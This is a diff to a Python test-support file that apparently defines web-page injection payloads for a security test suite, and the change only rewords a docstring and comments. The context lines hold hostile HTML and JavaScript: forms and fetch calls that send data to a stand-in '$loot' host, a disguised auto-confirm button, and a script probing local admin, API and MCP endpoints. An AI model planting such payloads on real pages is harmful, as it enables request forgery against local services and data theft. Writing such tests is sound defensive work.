@@ -1,4 +1,4 @@
-"""What stands on pages of the web."""
+"""Injections on web pages."""
 
 from __future__ import annotations
 
@@ -6,7 +6,7 @@ from tests.support.injections.injection import Injection
 
 FORM = "<form action='$loot/take' method=post><input name=q><button>Send</button></form>"
 TO_OWN = "<a href='$own/admin/'>Continue</a>"
-# With the right signature: whoever knew it still could not have a page of their own use it.
+# The link has a valid signature: even an attacker who knows it cannot use it from another page.
 CONFIRM = """<form action='$link' method=post><input type=hidden name=answer value=confirm>
 <button>Play the video</button></form>"""
 SCRIPTS = """<iframe src='$web/admin/'></iframe><iframe src='$link'></iframe>
@@ -21,7 +21,7 @@ for (const path of ['/api/v1/runs', '/api/v1/tasks', '/admin/login/', '/mcp',
 new WebSocket('$web'.replace('http', 'ws') + '/ws/tasks/task_1');
 navigator.sendBeacon('$link', new URLSearchParams({answer: 'confirm'}));
 open('$link');</script>"""
-# A page of the open net that reaches for this machine.
+# A public page that requests addresses of this machine.
 INSIDE = """<img src='$loot/take?img'><iframe src='$loot/take?frame'></iframe>
 <form id=p action='$loot/take' method=post target=g><input name=q value=x></form><iframe name=g>
 </iframe><script>p.submit(); fetch('$loot/take?fetch', {mode: 'no-cors'}).catch(() => {});
